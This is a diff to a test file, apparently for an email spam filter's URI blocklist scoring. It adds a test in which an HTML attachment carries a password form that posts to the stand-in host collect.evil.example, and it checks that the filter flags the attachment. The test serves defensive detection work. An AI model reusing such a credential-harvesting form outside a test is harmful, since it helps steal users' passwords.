@@ -2,7 +2,7 @@
 // serving a URI blocklist): a PDF whose link annotation points at a listed domain scores the zone's symbol
 // like a link in the body would, also when the annotation sits in a compressed object stream; a PDF
 // linking elsewhere adds nothing; the phishing link checks read these links too (a bare IP address
-// here). A .docx whose hyperlink goes to a listed domain scores it as well.
+// here). A .docx whose hyperlink, and an HTML file whose form, goes to a listed domain score it as well.
 import assert from 'node:assert/strict';
 import { after, before, test } from 'node:test';
 import { deflateSync } from 'node:zlib';
@@ -63,4 +63,13 @@ test('a .docx whose hyperlink goes to a listed domain', async () => {
   assert.ok((await deliver(withAttachment(docx, 'invoice.docx', type))).ok);
   const symbols = await verdictSymbols(f, USER);
   assert.equal(symbols.DBL, 4, JSON.stringify(symbols));
+});
+
+test('an HTML file whose form posts to a listed domain', async () => {
+  const page =
+    '<html><body><form action="https://collect.evil.example/p"><input type="password" name="pw"></form></body></html>';
+  assert.ok((await deliver(withAttachment(Buffer.from(page), 'statement.html', 'text/html'))).ok);
+  const symbols = await verdictSymbols(f, USER);
+  assert.equal(symbols.DBL, 4, JSON.stringify(symbols));
+  assert.ok('ATTACH_HTML_ACTIVE' in symbols, JSON.stringify(symbols));
 });
